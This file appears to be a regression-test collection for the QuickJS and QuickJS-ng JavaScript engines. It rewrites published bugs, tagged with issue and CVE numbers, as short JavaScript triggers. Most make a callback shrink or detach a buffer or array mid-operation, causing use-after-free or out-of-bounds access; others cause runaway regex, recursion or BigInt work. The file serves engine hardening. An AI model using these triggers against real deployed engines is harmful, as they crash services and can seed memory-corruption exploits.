// Holes that were published of QuickJS and QuickJS-ng, as shapes: a method of the engine is at work on
// memory that the script's own function changes under it. Written anew after what the issues say.

//# quickjs-ng #1368: Iterator.concat whose iterator ends it
const outer = Iterator.concat({ [Symbol.iterator]() { outer.return(); return [1].values() } });
outer.next(); return [...outer].length

//# quickjs-ng #1440: Iterator.concat whose iterator ends it while next is looked up
const outer = Iterator.concat({ [Symbol.iterator]: () => ({ get next() { outer.return();
  return () => ({ done: true }) } }) });
outer.next(); outer.next(); return 1

//# quickjs-ng #1301, bellard #508: Atomics.store into a buffer that shrinks
const buffer = new ArrayBuffer(1024, { maxByteLength: 1 << 20 });
Atomics.store(new Int32Array(buffer), 200, { valueOf() { buffer.resize(0); return 7 } }); return 1

//# quickjs-ng #1302: Atomics.add and its like on a buffer that moves
for (const name of ['add', 'sub', 'and', 'or', 'xor', 'exchange']) {
  const buffer = new ArrayBuffer(1024, { maxByteLength: 1 << 20 });
  Atomics[name](new Int32Array(buffer), 3, { valueOf() { buffer.resize(1 << 20); buffer.resize(0); return 7 } });
}
return 1

//# quickjs-ng #1297: sorting a typed array whose buffer shrinks
for (let stop = 1; stop < 2000; stop += 61) {
  const buffer = new ArrayBuffer(256, { maxByteLength: 4096 });
  const list = new Uint8Array(buffer).map((_x, i) => 255 - i);
  let count = 0;
  new Uint8Array(buffer).set(list);
  new Uint8Array(buffer).sort((a, b) => { count += 1; if (count === stop) buffer.resize(10); return a - b });
}
return 1

//# quickjs-ng #1296: a typed array made by a constructor whose prototype shrinks the buffer
const buffer = new ArrayBuffer(64, { maxByteLength: 4096 });
const Fake = new Proxy(function () {}, { get(t, key) { if (key === 'prototype') buffer.resize(0); return t[key] } });
const list = Reflect.construct(Uint8Array, [buffer, 32, 32], Fake); list[0] = 1; return list[0] || 0

//# quickjs-ng #1305: a typed array copied from one whose buffer shrinks
const buffer = new ArrayBuffer(4096, { maxByteLength: 8192 });
const from = new Uint8Array(buffer);
const Fake = new Proxy(function () {}, { get(t, key) { if (key === 'prototype') buffer.resize(1); return t[key] } });
return Reflect.construct(Float64Array, [from], Fake).length

//# quickjs-ng #1355: an async generator that is entered again through a getter of then
let it, hits = 0, inside = false;
Object.defineProperty(Object.prototype, 'then', { configurable: true, get() {
  if (inside || !it || hits > 4) return undefined;
  inside = true; hits += 1;
  try { it.return(0); it.next(1); it.return(1) } catch (e) {}
  inside = false; return undefined;
} });
it = (async function* () { yield 1; yield { a: 1 }; await null; yield 2 })();
it.next(); it.next(); it.return({ b: 1 });
return new Promise(done => setTimeout(() => { delete Object.prototype.then; done(1) }, 20))

//# quickjs-ng #1562: an array whose length grows before a push
const list = [1.5, 2.5]; list.length = 1 << 20; list.push({ valueOf() { list.length = 0 } });
list.length = 5; list.push(1, 2, 3); return list.length

//# quickjs-ng GHSA-r6vf: an array whose length is set while its elements are freed
const list = []; for (let i = 0; i < 99; i++) list.push({ get x() { return list.length = 0 } });
list.length = { valueOf() { list.push(1); list.length = 200; return 3 } }; return list.length

//# quickjs-ng #1318: what a FinalizationRegistry calls after the end
const registry = new FinalizationRegistry(held => { registry.register({}, held) });
for (let i = 0; i < 5000; i++) registry.register({ i }, { i, registry }, {}); return 1

//# CVE-2023-31922: Array.isArray of Proxies in each other
let proxy = []; for (let i = 0; i < 200000; i++) proxy = new Proxy(proxy, {});
return Array.isArray(proxy)

//# CVE-2023-48183: a for-of over a generator that deletes what it runs on
const it = (function* () { try { yield 1; yield 2 } finally { it.next = null; delete it.return } })();
for (const x of it) { Object.setPrototypeOf(it, null); break }
return 1

//# CVE-2023-48184: an async function that is freed while it waits
for (let i = 0; i < 3000; i++) (async () => { await { then(f) { Promise.resolve().then(f); f() } } })();
return new Promise(done => setTimeout(done, 20, 1))

//# bellard #545: a product of BigInts that polls nothing
let n = 3n ** 200000n; for (;;) n *= n

//# bellard #545: a BigInt as text that polls nothing
return (7n ** 1500000n).toString().length

//# CVE-2025-46687: a regular expression whose pieces outgrow its memory
return new RegExp('(?:a{0,65535}){0,65535}b').test('a'.repeat(40)) || new RegExp('(?:' + '(a?)'.repeat(300) + ')*b').test('a'.repeat(30))

//# CVE-2025-46688: backwards references into what is being matched
return /(?<=\1(a+))(b)(?<!\2\1)c\k<z>(?<z>x)?/.exec('aab' + 'abc'.repeat(1000)) === null

//# a replace whose function changes the expression under it
const e = /(a)(b)?/g; let n = 0;
return 'ab'.repeat(500).replace(e, function () { e.lastIndex = n++ % 7; e.compile && e.compile('x(y)', 'g'); return e.source }).length

//# a sort whose function empties the array
const list = Array.from({ length: 500 }, (_x, i) => 500 - i);
list.sort((a, b) => { list.length = 0; list.push(a); return a - b }); return list.length

//# splice, concat and slice on an array that shrinks through its species
class Small extends Array { static get [Symbol.species]() { return function (n) { list.length = 0; return [] } } }
const list = Small.from({ length: 300 }, (_x, i) => ({ i }));
list.slice(0, 200); list.push(...'abc'); list.splice(0, 2, ...'xyz'); return [...list.concat(list)].length

//# Array.prototype methods on an array whose getter shortens it
const list = [1, 2, 3, 4, 5];
Object.defineProperty(list, 2, { get() { list.length = 1; return 9 }, configurable: true });
return [list.includes(4), list.indexOf(5), list.flat().length, list.copyWithin(0, 1).length, list.join()].length

//# Map and Set that lose entries while they are walked
const map = new Map(Array.from({ length: 300 }, (_x, i) => [i, {}]));
map.forEach((_v, key) => { map.delete(key); map.delete(key + 1); map.set(key + 1000, 1); if (map.size > 900) map.clear() });
const set = new Set([1, 2, 3]); for (const x of set) { set.clear(); if (x < 3) set.add(x + 1) }
return 1

//# JSON.parse with a function that changes what it walks
return JSON.parse('{"a":[1,2,3],"b":{"c":[4]}}', function (key) { if (Array.isArray(this)) this.length = 0; else delete this.b; return this }) ? 1 : 0

//# JSON.stringify of an object that changes while it is written
const o = { a: 1, b: { get c() { delete o.b; o.d = new Array(1e4).fill({}); return o.a } }, z: 1 };
return JSON.stringify(o).length

//# DataView on a buffer that shrinks while its place is worked out
const buffer = new ArrayBuffer(64, { maxByteLength: 128 }); const view = new DataView(buffer);
view.setFloat64({ valueOf() { buffer.resize(0); return 40 } }, 1); return 1

//# copying within a typed array that is detached on the way
const list = new Uint8Array(1024);
const away = () => { structuredClone(list.buffer); if (list.buffer.transfer) list.buffer.transfer(); return 5 };
list.copyWithin({ valueOf: away }, 1, 900); list.fill({ valueOf: away }, 2, 700); list.set([{ valueOf: away }], 3); return 1

//# a Proxy that is revoked in its own trap
const { proxy, revoke } = Proxy.revocable({}, { get() { revoke(); return 1 }, ownKeys() { revoke(); return ['a'] } });
try { Object.assign({}, proxy) } catch (e) {} return typeof proxy

//# a class whose field removes the class
class A { static x = (() => { try { delete globalThis.A; A.prototype = null } catch (e) {} return 1 })(); y = A.x }
return new A().y

//# a WeakRef and a WeakMap around garbage in a circle
const weak = new WeakMap(); for (let i = 0; i < 20000; i++) { const a = {}, b = { a }; a.b = b; weak.set(a, b); new WeakRef(b) }
return 1

//# a tagged template and a function without end of arguments
return (function f(...list) { return list.length })(...new Array(60000).fill(1), ...'x'.repeat(60000))

//# apply with a list that says it is longer than all memory
return Math.max.apply(null, { length: 2 ** 32 + 5 })

//# a string that is built backwards from slices of itself
let s = 'x'.repeat(1e6); for (let i = 0; i < 200; i++) s = s.slice(1) + s[0]; return s.length

//# an error whose stack is longer than memory
const f = n => n ? f(n - 1) : new Error('x'.repeat(1e6)).stack.length; return f(500)
